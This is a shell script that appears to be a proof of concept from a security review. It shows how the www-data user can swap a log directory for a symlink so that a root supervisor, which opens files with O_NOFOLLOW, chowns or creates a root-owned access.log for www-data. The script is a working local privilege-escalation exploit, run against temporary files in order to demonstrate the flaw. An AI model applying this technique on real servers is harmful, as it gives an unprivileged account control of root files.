#!/bin/sh
# R4: the supervisor (root) hands log files to www-data opening them with O_NOFOLLOW, which
# guards the LAST name only. With a log path like LOGS/{site}/access.log in a folder www-data
# may write (as the README asks of {user} paths), www-data swaps LOGS/default for a link to
# any folder: on the next start, SIGHUP or SIGUSR1 root chowns that folder's access.log (any
# root file of that name with one link) to www-data, or creates it there as www-data's.
set -eu
repo=$(cd "$(dirname "$0")/../.." && pwd)
logs=$(mktemp -d /tmp/rv-logs-XXXXXX); chown www-data "$logs"
victim=$(mktemp -d /tmp/rv-victim-XXXXXX); chmod 755 "$victim"
echo "root's own log" >"$victim/access.log"; chmod 600 "$victim/access.log"
root=$(mktemp -d /tmp/rv-www-XXXXXX); chmod 755 "$root"
out=$(mktemp /tmp/rv-out-XXXXXX)
trap 'kill $cli 2>/dev/null; rm -rf "$logs" "$victim" "$root" "$out"*' EXIT
su -s /bin/sh www-data -c "ln -s $victim $logs/default"     # the compromised server child's doing
ls -l "$victim/access.log"
cd /
node "$repo/dist/server/cli.js" "$root" --port 0 --python /usr/bin/python3 --access-log "$logs/{site}/access.log" >"$out" 2>"$out.err" &
cli=$!
i=0; until grep -q serving "$out"; do i=$((i+1)); [ $i -lt 150 ] || { cat "$out.err"; exit 1; }; sleep 0.2; done
ls -l "$victim/access.log"
